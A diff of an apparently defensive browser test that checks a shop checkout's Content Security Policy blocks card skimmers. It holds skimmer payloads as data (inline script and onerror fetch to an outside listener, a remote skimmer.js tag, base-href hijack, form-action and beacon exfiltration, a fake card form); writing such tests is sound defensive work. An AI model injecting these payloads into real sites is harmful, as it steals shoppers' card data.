@@ -4,7 +4,7 @@ import { openListener } from '../fixtures/listener'
 import { hostOf, rawRequest } from '../fixtures/raw-http'
 import type { Attack } from './attack'
 
-/** What somebody has managed to write into the page of the checkout. `elsewhere` is where card numbers would go. */
+/** HTML that an attacker injects into the checkout page. `elsewhere` is the host that would receive card numbers. */
 const written: Record<string, (elsewhere: string) => string> = {
   'an inline script': (elsewhere) =>
     `<script>window.skimmed=1;fetch('${elsewhere}/inline')</script><img src="x" onerror="window.skimmed=1;fetch('${elsewhere}/inline')">`,
@@ -12,8 +12,8 @@ const written: Record<string, (elsewhere: string) => string> = {
     `<script src="${elsewhere}/skimmer.js"></script><link rel="stylesheet" href="${elsewhere}/style.css"><base href="${elsewhere}/">`,
 }
 
-/** What is done in it once it is there. */
-const done: Record<string, (page: Page, elsewhere: string) => Promise<unknown>> = {
+/** Actions of the injected code, by name. */
+const actions: Record<string, (page: Page, elsewhere: string) => Promise<unknown>> = {
   'the form sent elsewhere': (page, elsewhere) =>
     page.evaluate((url) => {
       const form = document.createElement('form')
@@ -32,7 +32,7 @@ const done: Record<string, (page: Page, elsewhere: string) => Promise<unknown>> 
         new WebSocket(`${url.replace('http', 'ws')}/socket`)
         new EventSource(`${url}/events`)
       } catch {
-        // Refused at once.
+        // Blocked immediately.
       }
     }, elsewhere),
   'a form for cards in a frame': (page, elsewhere) =>
@@ -49,10 +49,10 @@ const done: Record<string, (page: Page, elsewhere: string) => Promise<unknown>> 
 
 export const skimmers: Attack = {
   id: 'S46',
-  attack: 'skimmer drill in checkout: inline, remote script, form-action, img/beacon exfil, fake card form',
+  attack: 'skimmer test in checkout: inline, remote script, form-action, img/beacon exfil, fake card form',
   expected: '5/5 blocked by CSP in a real browser; inventory test fails the build',
   asvs: '3.4.3',
-  run: async ({ house, browser, openShop }) => {
+  run: async ({ testApp, browser, openShop }) => {
     const shop = await openShop()
     const elsewhere = await openListener('window.skimmed=1', 'text/javascript')
     const context = await browser.newContext()
@@ -66,12 +66,12 @@ export const skimmers: Attack = {
     const page = await context.newPage()
     try {
       const buyer = new Buyer(page, shop)
-      await buyer.landsOn('/listing/corner-tee')
-      await buyer.addsToCart()
-      await buyer.goesToCart()
-      await buyer.startsCheckout()
+      await buyer.openPage('/listing/corner-tee')
+      await buyer.addToCart()
+      await buyer.goToCart()
+      await buyer.startCheckout()
       const address = page.url()
-      expect(kept, 'before any drill').toEqual([])
+      expect(kept, 'before any attack').toEqual([])
       const isBlocked = async (name: string, act: () => Promise<unknown>) => {
         const before = kept.length
         await act()
@@ -79,12 +79,12 @@ export const skimmers: Attack = {
         expect(await page.evaluate(() => 'skimmed' in window), name).toBe(false)
         expect(page.url(), name).toBe(address)
       }
-      for (const [name, drill] of Object.entries(done)) await isBlocked(name, () => drill(page, elsewhere.url))
+      for (const [name, drill] of Object.entries(actions)) await isBlocked(name, () => drill(page, elsewhere.url))
       for (const [name, markup] of Object.entries(written)) {
         await page.route(address, async (route) => {
           const { cookie = '' } = await route.request().allHeaders()
-          const asked = { host: hostOf(house, shop.slug), path: new URL(address).pathname, headers: { cookie } }
-          const { status, headers, body } = await rawRequest(house, asked)
+          const asked = { host: hostOf(testApp, shop.slug), path: new URL(address).pathname, headers: { cookie } }
+          const { status, headers, body } = await rawRequest(testApp, asked)
           const policy = String(headers['content-security-policy'])
           expect([status, policy.includes('nonce-')]).toEqual([200, true])
           await route.fulfill({
@@ -97,7 +97,7 @@ export const skimmers: Attack = {
         await page.unroute(address)
       }
       expect(elsewhere.visits).toEqual([])
-      return { seen: `5 of 5 blocked, ${kept.length} reports of the policy, 0 calls arrived elsewhere` }
+      return { observed: `5 of 5 blocked, ${kept.length} policy violation reports, 0 outbound calls` }
     } finally {
       await context.close()
       elsewhere.stop()
